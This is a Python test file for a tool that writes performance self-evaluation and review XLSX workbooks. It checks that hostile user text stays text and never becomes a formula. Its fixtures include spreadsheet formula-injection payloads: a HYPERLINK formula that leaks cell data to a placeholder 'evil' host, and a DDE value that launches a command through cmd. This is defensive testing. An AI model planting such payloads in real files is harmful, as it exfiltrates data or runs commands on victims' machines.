"""User text never becomes a formula in a workbook we write (自评表 XLSX, review workbook).

Checked on the written file's XML: the hostile strings are present as text cells, no formula
mentions them, and the writer's own SUM/IF formulas are still formulas.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from jixiao import pipeline
from jixiao.io.loading import load_path
from jixiao.io.review_xlsx import write_review
from testdata import PINGSHAN
from xml_cells import formulas, texts

HOSTILE = ['=HYPERLINK("http://evil/?leak="&A3,"点我查看")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_selfeval_xlsx_keeps_user_text_as_text(hostile: str) -> None:
    from jixiao.publish import render
    project = load_path(PINGSHAN).projects[0]
    project = project.evolve(name=hostile, department=hostile)
    card = pipeline.score(project).card
    assert card is not None
    data = render(project, card, "xlsx")
    found = formulas(data)
    assert found, "the writer's own totals are formulas"
    assert all(f.startswith(("SUM(", "IF(")) for f in found), found
    assert not any("HYPERLINK" in f or ("A1)" in f and f.startswith("SUM(A1")) for f in found)
    assert any(hostile.strip("\t\r") in t for t in texts(data)), texts(data)[:5]


def test_review_workbook_keeps_user_text_as_text(tmp_path: Path) -> None:
    path = tmp_path / "review.xlsx"
    write_review(path, [{"file": "=cmd|'/c calc'!A1", "project": HOSTILE[0], "department": "@SUM(1)",
                         "stated_total": "90", "errors": 1}],
                 [{"path": "x.yaml", "line": 1, "message": "+1+1", "hint": "-1", "slug": "=2"}])
    data = path.read_bytes()
    assert formulas(data) == []
    shown = texts(data)
    for value in (HOSTILE[0], "@SUM(1)", "+1+1", "=cmd|'/c calc'!A1"):
        assert value in shown
